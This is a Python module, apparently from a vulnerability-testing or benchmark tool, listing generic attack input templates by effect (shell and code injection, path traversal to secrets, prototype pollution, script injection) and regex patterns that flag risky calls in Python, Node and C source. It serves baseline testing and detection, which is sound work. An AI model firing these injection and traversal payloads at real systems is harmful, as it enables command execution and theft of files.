"""Common attack texts by effect, and words in source that make one look, as lists on the Web have.

They are what solvers without skill throw; none was written for an item.
"""

from typing import Any

from seawall.vocab.evidence import OracleKind, Runtime

_SHELL = ("{command}", "$({command})", ";{command};", "|{command}", "`{command}`", "a&&{command}")
_CODE = (
    "__import__('os').system('{command}')",
    "{{ __import__('os').system('{command}') }}",
    "process.mainModule.require('child_process').execSync('{command}')",
    "');require('child_process').execSync('{command}');('",
)
_UP = "../../../../../../../.."
GENERIC: dict[OracleKind, tuple[str, ...]] = {
    OracleKind.COMMAND: (*_SHELL, *_CODE),
    OracleKind.FILE_WRITE: ("{canary}", f"{_UP}{{canary}}", "//{canary}", "file://{canary}"),
    OracleKind.FILE_READ: ("{secret}", f"{_UP}{{secret}}", "//{secret}", "file://{secret}"),
    OracleKind.CALLBACK: ("{url}", "//{url}", "http://x@{url}"),
    OracleKind.PROTOTYPE: (
        "__proto__",
        "__proto__.{token}",
        "__proto__[{token}]",
        "constructor.prototype.{token}",
        '{"__proto__": {"{token}": 1}}',
        "[__proto__]\n{token} = 1",
        "--__proto__.{token}=1",
    ),
    OracleKind.EXCEPTION: ("%", "%ff%fe", "\\", "(" * 400, "[" * 400, "\x00", "'", "{{"),
    OracleKind.HANG: (" ", "\t", "\n", "a", "(", "[", "{", "\\", "/", "@", "*", ",", "<", '"'),
    OracleKind.CHECK: ("<script>{token}</script>", "<img src=x onerror={token}>"),
    OracleKind.SANITIZER: ("A", "%n", "(", "|", "9"),
}
_WORDS = {
    OracleKind.COMMAND: (r"\beval\(", r"\bexec\(", r"os\.system", r"subprocess", r"pickle\.load"),
    OracleKind.FILE_WRITE: (r"open\(", r"extract\(", r"os\.path\.join"),
    OracleKind.FILE_READ: (r"open\(", r"os\.path\.join"),
    OracleKind.CALLBACK: (r"urlopen\(", r"requests\.get"),
    OracleKind.HANG: (r"re\.compile\(", r"while True"),
    OracleKind.EXCEPTION: (r"raise ", r"recurs"),
    OracleKind.CHECK: (r"escape\(",),
    OracleKind.PROTOTYPE: (r"setattr",),
    OracleKind.SANITIZER: (r"memcpy",),
}
_JS = {
    OracleKind.COMMAND: (r"new Function", r"\beval\(", r"child_process", r"execSync", r"\bvm\."),
    OracleKind.FILE_WRITE: (r"writeFile", r"path\.join", r"createWriteStream"),
    OracleKind.FILE_READ: (r"readFile", r"createReadStream"),
    OracleKind.CALLBACK: (r"https?\.request", r"fetch\("),
    OracleKind.PROTOTYPE: (r"__proto__", r"\[key\] =", r"\[k\] =", r"hasOwnProperty"),
    OracleKind.HANG: (r"new RegExp", r"\.replace\(/", r"\.match\(/", r"while \(true"),
    OracleKind.EXCEPTION: (r"throw ", r"\.join\("),
    OracleKind.CHECK: (r"escape",),
    OracleKind.SANITIZER: (r"Buffer",),
}
_C: dict[OracleKind, tuple[str, ...]] = dict.fromkeys(
    OracleKind, (r"memcpy\(", r"strcpy\(", r"sprintf\(", r"malloc\(")
)
SUSPICIOUS: dict[Runtime, dict[OracleKind, tuple[str, ...]]] = {
    Runtime.PYTHON: _WORDS,
    Runtime.NODE: _JS,
    Runtime.NATIVE: _C,
}


def oracle_table(kind: OracleKind, exception: str = "") -> dict[str, Any]:
    """The [oracle] of a reproducer that hopes for `kind`."""
    match kind:
        case OracleKind.EXCEPTION:
            return {"kind": kind.value, "type": exception or "TypeError"}
        case OracleKind.HANG:
            return {"kind": kind.value, "cpu_seconds": 1}
        case OracleKind.CHECK:
            return {"kind": kind.value, "checker": "unescaped-markup"}
    return {"kind": kind.value}
